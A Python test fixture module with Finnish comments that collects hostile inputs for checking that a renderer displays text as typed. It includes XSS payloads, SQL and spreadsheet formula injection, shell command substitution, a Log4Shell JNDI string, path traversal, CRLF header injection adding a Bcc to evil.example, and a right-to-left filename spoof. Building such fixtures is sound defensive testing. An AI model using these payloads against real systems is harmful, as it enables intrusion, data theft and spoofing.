"""Texts as somebody may type them that are markup, code, a formula or a command to somebody: whatever shows them shows them as typed."""

from __future__ import annotations

# Every construct of Markdown, HTML, templates and mentions that a client might make something of, with emoji and Hebrew beside it.
CARD = (
    "*bold* _kursiv_ **b** [x](http://evil.example) ![i](http://evil.example/i.png) <at>x</at> <b>b</b> `koodi` ~~yli~~ &copy; "
    "{{DATE(2026-05-11T10:00:00Z,SHORT)}} {name} ${x} \\*a\\* 👩‍👩‍👧 שלום http://evil.example"
    "\n1. list\n2) list\n- list\n+ list\n# h\n---\n===\n> q\n    koodi\n| a | b |\n|---|---|\n***"
)
# Of typst, of docxtpl, of Word, and of other notations of documents.
PAPER = (
    "#panic() #let x = 1 #set text(red) $ sum_0 $ *lihava* _kursiivi_ `koodi` <label> @viite // ei kommentti /* ei */ \\u{41} ~ --- ...",
    "{{ body }} {% for x in blocks %} {%p endif %} {# ei #} {_{ }_} {_% %_} {{",
    "<w:p><w:r><w:t>ei</w:t></w:r></w:p> & &amp; &#95; ]]> <!-- ei --> \"lainaus\" 'heittomerkki'",
    "# Ei otsikko * ei luettelo [ei](linkki) | ei | taulu | ![ei](kuva)",
)
PAGE = (
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "</textarea></title></style></option><svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a> &lt;b&gt; &#x3c;b>",
)
# Of a spreadsheet, a calendar file, a shell and a database.
OTHER = ('=HYPERLINK("x") +1 -1 @SUM(A1)', "a;b,c\\nd: e", "$(id) `id` | id", "' OR 1=1 --", "%s %n {0} ${jndi:ldap://x}", "../..\\x")
LINE = " ".join((*PAPER, *PAGE, *OTHER))
# What a terminal obeys, what ends a line in a header, a calendar file or a log, and what turns a name round.
UNSEEN = (
    "\x1b[2J\x1b]0;x\x07\x9b31m\x08\x7f",
    "\r\nBcc: kaikki@evil.example\r\n\r\nx",
    "\nATTENDEE:mailto:kaikki@evil.example\nEND:VEVENT",
    '\n{"level": "critical"}\x85\u2028\u2029\x0b\x0c',
    "\u202efdp.exe\u2066\u200b\ufeff",
)
